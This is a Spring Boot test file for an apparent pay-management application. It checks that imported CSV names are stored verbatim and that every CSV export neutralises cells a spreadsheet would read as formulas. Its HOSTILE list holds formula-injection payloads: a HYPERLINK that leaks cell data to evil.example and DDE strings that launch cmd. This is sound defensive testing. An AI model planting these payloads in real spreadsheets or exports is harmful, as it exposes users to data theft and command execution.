package org.rungs.app.pay;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.rungs.app.RungsApplication;
import org.rungs.app.people.TestOrganisation;
import org.rungs.app.testing.TestDatabases;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

/**
 * CSV formula injection (OWASP ASVS 1.2.10), at both ends: a people file whose cells begin with
 * {@code = + - @} is imported as plain text, exactly as written; and every CSV the app serves
 * (found in the handler mappings, so a new one cannot be missed) writes no cell a spreadsheet would
 * read as a formula: the hostile names seeded here come out with a leading {@code '}.
 */
@SpringBootTest(
    classes = RungsApplication.class,
    webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class CsvFormulaInjectionTests extends TestOrganisation {

  /** Names a spreadsheet would run, each beginning with one of the characters it reads. */
  static final List<String> HOSTILE =
      List.of(
          "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click me\")",
          "+SUM(1+1)*cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0");

  /** Every route that answers CSV, and who asks for it; {id} is dev, {roundId} an open round. */
  static final Map<String, String> CSV_ROUTES =
      Map.of(
          "/team/calibration.csv", "admin and lead",
          "/team/pay-reviews/{roundId}.csv", "admin and lead",
          "/people/{id}/pay.csv", "admin",
          "/admin/pay/bands.csv", "admin",
          "/admin/pay/consistency.csv", "admin",
          "/admin/pay/gap.csv", "admin");

  @Autowired PayFiles files;
  @Autowired JdbcClient jdbc;
  @Autowired ApplicationContext context;
  private long round;

  @DynamicPropertySource
  static void database(DynamicPropertyRegistry registry) {
    String url = TestDatabases.h2();
    registry.add("spring.datasource.url", () -> url);
  }

  @BeforeAll
  void hostileOrganisation() throws Exception {
    BackendBand.importInto(files);
    assertThat(
            files
                .importPay(
                    null,
                    "email,effective_from,reason,currency,base_salary,fte,variable_pay,zone,sex\n"
                        + "dev@example.com,2025-02-01,hire,GBP,50000,1,,,female\n",
                    false)
                .problems())
        .isEmpty();
    // The lead manages, so their name is in the consistency report once they agree on dev.
    jdbc.sql("update person set name = ? where id = ?").params(HOSTILE.get(0), lead).update();
    String criterion =
        backend.topics().stream()
            .flatMap(topic -> topic.criteriaAt(2).stream())
            .findFirst()
            .orElseThrow()
            .id()
            .value();
    put(
        "/api/v1/people/" + dev + "/assessments/" + criterion,
        leadToken,
        "{\"view\":\"agreed\",\"status\":\"demonstrated\",\"version\":0}");
    HttpResponse<String> opened =
        post(
            "/api/v1/pay-reviews",
            adminToken,
            "{\"name\":\"Spring review\",\"effectiveFrom\":\"2025-04-01\",\"budgetPercent\":3}");
    assertThat(opened.statusCode()).as(opened.body()).isEqualTo(201);
    round = json(opened).get("id").asLong();
  }

  @Test
  void cellsThatLookLikeFormulasAreImportedAsTheTextThatWasWritten() throws Exception {
    StringBuilder csv = new StringBuilder("email,name,manager_email,framework,level,role\n");
    for (int i = 0; i < HOSTILE.size(); i++) {
      csv.append("formula")
          .append(i)
          .append("@example.com,\"")
          .append(HOSTILE.get(i).replace("\"", "\"\""))
          .append("\",lead@example.com,/engineering/backend,2,member\n");
    }
    HttpResponse<String> imported =
        postForm(
            "/admin/people/import",
            adminToken,
            "csv=" + URLEncoder.encode(csv.toString(), StandardCharsets.UTF_8));

    assertThat(imported.statusCode()).as(imported.body()).isEqualTo(200);
    for (int i = 0; i < HOSTILE.size(); i++) {
      assertThat(people.findByEmail("formula" + i + "@example.com").orElseThrow().name())
          .as("stored as text, character for character")
          .isEqualTo(HOSTILE.get(i));
    }
  }

  @Test
  void payAndBandFilesRefuseFormulasWhereOnlyCodesBelong() {
    assertThat(
            files
                .importPay(
                    null,
                    "email,effective_from,reason,currency,base_salary,zone\n"
                        + "dev@example.com,2025-03-01,=1+1,GBP,50000,@evil\n",
                    true)
                .problems())
        .isNotEmpty();
    assertThat(
            files
                .importBands(
                    null,
                    "framework,level,zone,currency,min,max,effective_from\n"
                        + "/engineering/backend,2,=HYPERLINK(\"x\"),GBP,45000,60000,2025-01-01\n",
                    true)
                .problems())
        .isNotEmpty();
  }

  @Test
  void everyCsvExportNeutralisesEveryCellASpreadsheetWouldRun() throws Exception {
    cellsThatLookLikeFormulasAreImportedAsTheTextThatWasWritten();
    assertThat(csvRoutes())
        .as("routes answering CSV: each needs a row in CSV_ROUTES")
        .isEqualTo(new TreeSet<>(CSV_ROUTES.keySet()));

    Set<String> neutralisedNames = new TreeSet<>();
    for (Map.Entry<String, String> route : CSV_ROUTES.entrySet()) {
      String path =
          route
                  .getKey()
                  .replace("{id}", Long.toString(dev))
                  .replace("{roundId}", Long.toString(round))
              + (route.getKey().startsWith("/team/")
                  ? "?framework=/engineering/backend&level=2"
                  : "");
      List<String> tokens = new ArrayList<>(List.of(adminToken));
      if (route.getValue().contains("lead")) {
        tokens.add(leadToken);
      }
      for (String token : tokens) {
        HttpResponse<String> csv = get(path, token);
        assertThat(csv.statusCode()).as(path + ": " + csv.body()).isEqualTo(200);
        assertThat(csv.headers().firstValue("Content-Type").orElse("")).startsWith("text/csv");
        for (String cell : cells(csv.body())) {
          assertThat(cell)
              .as("a cell of %s", path)
              .doesNotStartWith("=")
              .doesNotStartWith("+")
              .doesNotStartWith("-")
              .doesNotStartWith("@")
              .doesNotStartWith("\t")
              .doesNotStartWith("\r")
              .doesNotStartWith("\0");
          if (HOSTILE.contains(cell.replaceFirst("^'", ""))) {
            assertThat(cell).as("a hostile name in %s", path).startsWith("'");
            neutralisedNames.add(path + " " + cell);
          }
        }
      }
    }
    assertThat(neutralisedNames)
        .as("the seeded names came out, neutralised, where the exports show names")
        .anyMatch(
            found ->
                found.startsWith(
                    "/team/calibration.csv?framework=/engineering/backend&level=2 '+SUM"))
        .anyMatch(found -> found.startsWith("/admin/pay/consistency.csv '=HYPERLINK"));
  }

  private Set<String> csvRoutes() {
    Set<String> routes = new TreeSet<>();
    for (RequestMappingHandlerMapping mapping :
        context.getBeansOfType(RequestMappingHandlerMapping.class).values()) {
      for (RequestMappingInfo info : mapping.getHandlerMethods().keySet()) {
        boolean csvType =
            info.getProducesCondition().getProducibleMediaTypes().stream()
                .anyMatch(type -> type.getSubtype().equals("csv"));
        info.getPatternValues().stream()
            .filter(pattern -> pattern.endsWith(".csv") || csvType)
            .forEach(routes::add);
      }
    }
    return routes;
  }

  private static List<String> cells(String csv) throws Exception {
    List<String> cells = new ArrayList<>();
    try (CSVParser parser = CSVParser.parse(new StringReader(csv), CSVFormat.DEFAULT)) {
      for (CSVRecord record : parser) {
        record.forEach(cells::add);
      }
    }
    return cells;
  }
}
